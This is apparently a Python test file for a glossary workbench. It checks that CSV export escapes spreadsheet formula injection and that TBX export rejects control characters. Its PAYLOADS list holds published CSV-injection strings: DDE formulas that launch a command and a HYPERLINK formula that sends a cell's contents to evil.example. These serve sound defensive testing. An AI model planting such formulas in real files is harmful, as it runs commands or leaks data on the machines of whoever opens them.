"""Glossary files that attack what opens them (issue 15 items 11 and 18).

11: a glossary exported as CSV is opened in a spreadsheet: cells starting with ``=``, ``+``,
``-``, ``@``, tab or CR are written with a leading ``'`` (OWASP "CSV Injection"), and
workbench reads its own file back to the same terms.
18: TBX export wrote C0 control characters raw: XML its own import rejects.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.errors import InputError
from workbench.formats.csvcell import FORMULA_START, escape_cell, unescape_cell
from workbench.glossary import Glossary, Term, read_csv, read_tbx, write_csv, write_tbx

#: Published CSV-injection payloads (OWASP's page and the DDE examples it cites).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-two quotes",
    "-20 %",
    "'",
    "l'Arménie",
]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab \"x"), max_size=8))
def test_escape_round_trips_and_neutralises(cell: str) -> None:
    written = escape_cell(cell)
    assert unescape_cell(written) == cell
    assert written[:1] not in FORMULA_START  # a spreadsheet sees text


def test_glossary_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    terms = tuple(Term(fr=f"{p.strip()} fr{i}", en=p, vi=p, note=p) for i, p in enumerate(PAYLOADS))
    path = tmp_path / "g.csv"
    write_csv(Glossary(terms), path)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in FORMULA_START]
    assert "'=cmd|' /C calc'!A0" in cells and "'-20 %" in cells and "''=already quoted" in cells
    assert "l'Arménie" in cells and "'" in cells  # nothing to neutralise: unchanged
    back = read_csv(path)
    assert sorted(back.terms, key=lambda t: t.fr) == sorted(terms, key=lambda t: t.fr)
    again = tmp_path / "again.csv"
    write_csv(back, again)
    assert again.read_bytes() == path.read_bytes()


def test_hand_written_quote_keeps_a_formula_as_text(tmp_path: Path) -> None:
    """A translator who typed '=A1 in Calc meant the text =A1."""
    path = tmp_path / "g.csv"
    path.write_text("fr,en,vi\n'=A1,'-x,'ok\n", encoding="utf-8")
    (term,) = read_csv(path).terms
    assert (term.fr, term.en, term.vi) == ("=A1", "-x", "'ok")


@pytest.mark.parametrize("char", ["\x1b", "\x00", "\x07", "\x0b", "\x1f", "\ufffe"])
def test_csv_cell_xml_cannot_carry_is_refused(tmp_path: Path, char: str) -> None:
    path = tmp_path / "g.csv"
    path.write_text(f'fr,en,vi,note\nKremlin,Kremlin,Kremlin,"a{char}b"\n', encoding="utf-8")
    if char == "\x00":  # the user-file reader refuses NUL before the CSV reader sees it
        with pytest.raises(InputError):
            read_csv(path)
        return
    with pytest.raises(
        InputError, match=f"line 2: a cell holds the control character U\\+{ord(char):04X}"
    ):
        read_csv(path)


def test_tbx_export_never_writes_what_its_import_rejects(tmp_path: Path) -> None:
    tbx = tmp_path / "g.tbx"
    with pytest.raises(InputError, match=r"cannot be written as TBX.*U\+001B"):
        write_tbx(Glossary((Term("Kremlin", "Kremlin", "Kremlin", note="a\x1b[2Jb"),)), tbx)
    assert not tbx.exists()
    kept = Glossary((Term("Kremlin", "Kremlin", "Điện Kremlin", note="tab\tand\nline, \x9b C1"),))
    write_tbx(kept, tbx)
    (term,) = read_tbx(tbx).terms
    assert term.fr == "Kremlin" and term.note == "tab and line, \x9b C1"
